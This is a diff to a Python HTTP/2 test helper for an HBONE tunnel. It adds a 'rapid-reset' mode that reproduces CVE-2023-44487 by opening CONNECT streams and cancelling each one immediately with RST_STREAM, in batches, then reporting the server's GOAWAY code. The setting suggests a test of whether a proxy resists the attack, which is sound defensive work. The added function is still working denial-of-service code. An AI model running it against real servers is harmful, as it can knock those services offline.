@@ -3,6 +3,8 @@ library, nothing of ours.
 
 client: connect with mutual TLS 1.3 + ALPN h2, CONNECT to --authority, send --bytes of
         pseudo-random data while reading the echo back; print JSON with both sha256s.
+rapid-reset: CONNECT + RST_STREAM --streams times (CVE-2023-44487); print how many
+        went out before the server hung up, and its GOAWAY code.
 server: accept one mutual-TLS connection, answer every CONNECT with 200 and echo each
         stream's bytes back, ending the stream after the client ends its side.
         Prints "listening PORT" first.
@@ -134,6 +136,59 @@ def run_client(args) -> int:
     return 0
 
 
+def run_rapid_reset(args) -> int:
+    """CVE-2023-44487 as an attacker does it: CONNECT then RST_STREAM at once, --streams
+    times, in batches; stops when the server hangs up. Prints how many streams went out
+    and the GOAWAY's error code, if one came."""
+    host, port = args.connect.rsplit(":", 1)
+    raw = socket.create_connection((host, int(port)), timeout=30)
+    sock = tls_context(args, False).wrap_socket(raw)
+    conn = h2.connection.H2Connection(h2.config.H2Configuration(
+        client_side=True, validate_outbound_headers=False))
+    conn.initiate_connection()
+    sock.sendall(conn.data_to_send())
+    sent, goaway, closed = 0, None, False
+    sock.settimeout(0.05)
+    while sent < args.streams and not closed and goaway is None:
+        for _ in range(min(100, args.streams - sent)):
+            stream = conn.get_next_available_stream_id()
+            conn.send_headers(stream, [(":method", "CONNECT"), (":authority", args.authority)])
+            conn.reset_stream(stream, error_code=8)  # CANCEL
+            sent += 1
+        try:
+            sock.sendall(conn.data_to_send())
+        except OSError:
+            closed = True
+            break
+        try:
+            data = sock.recv(1 << 16)
+            if not data:
+                closed = True
+            else:
+                for event in conn.receive_data(data):
+                    if isinstance(event, h2.events.ConnectionTerminated):
+                        goaway = event.error_code
+        except (socket.timeout, ssl.SSLWantReadError):
+            pass
+        except OSError:
+            closed = True
+    # Read until the server closes: the GOAWAY may still be on its way.
+    sock.settimeout(5)
+    try:
+        while goaway is None:
+            data = sock.recv(1 << 16)
+            if not data:
+                break
+            for event in conn.receive_data(data):
+                if isinstance(event, h2.events.ConnectionTerminated):
+                    goaway = event.error_code
+    except (OSError, h2.exceptions.ProtocolError):
+        pass
+    print(json.dumps({"sent": sent, "goaway": None if goaway is None else int(goaway)}),
+          flush=True)
+    return 0
+
+
 def run_server(args) -> int:
     listener = socket.socket()
     listener.bind(("127.0.0.1", 0))
@@ -196,14 +251,17 @@ def run_server(args) -> int:
 
 def main() -> int:
     ap = argparse.ArgumentParser()
-    ap.add_argument("mode", choices=["client", "server"])
+    ap.add_argument("mode", choices=["client", "server", "rapid-reset"])
     ap.add_argument("--ca", required=True)
     ap.add_argument("--cert", required=True)
     ap.add_argument("--key", required=True)
     ap.add_argument("--connect", help="client: host:port of the HBONE server")
     ap.add_argument("--authority", help="client: the CONNECT target ip:port")
     ap.add_argument("--bytes", type=int, default=1 << 20)
+    ap.add_argument("--streams", type=int, default=10000, help="rapid-reset: how many")
     args = ap.parse_args()
+    if args.mode == "rapid-reset":
+        return run_rapid_reset(args)
     return run_client(args) if args.mode == "client" else run_server(args)
 
 
